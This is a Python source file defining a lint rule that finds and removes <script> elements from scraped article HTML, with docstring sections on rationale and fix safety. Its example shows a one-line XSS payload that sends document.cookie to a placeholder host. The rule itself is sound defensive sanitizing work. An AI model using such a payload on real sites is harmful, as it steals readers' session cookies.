"""Remove ``<script>`` elements from the body.

## What it does
Reports every ``<script>`` element in the body (also inside ``<svg>`` and ``<math>``) and removes it,
from ``<script`` to ``</script>``.

## Why is this bad?
A script in an article runs with the full rights of the site it is published on: it can read cookies,
rewrite the page or send readers elsewhere. Scraped feeds are untrusted input; no article needs its own
script.

## Example
```html
<p>正文</p><script>document.location = "https://example.com/?c=" + document.cookie</script>
```

## Use instead
```html
<p>正文</p>
```

## Options
None.

## Fix safety
Safe: the element is removed whole. A ``<script>`` that is never closed runs to the end of the body in
a browser, so the removal runs to the end of the body too.
"""

from __future__ import annotations

from ..edits import delete
from ..hookspecs import hookimpl
from ..rule import Rule


class Script(Rule):
    code = "SEC001"
    name = "script"
    summary = "<script> element in the body"
    groups = ("security",)
    fix = "safe"
    tags = ("script",)

    def check_element(self, el, article, options):
        where = ""
        p = el.parent
        while p is not None:
            if p.tag in ("svg", "math"):
                where = f" inside <{p.tag}>"
                break
            p = p.parent
        return (self.violation(article, el.start, el.start_tag_end, f"<script> element{where}",
                               delete(el.start, el.end, "Remove <script> element")),)


@hookimpl
def artlint_rules():
    return [Script()]
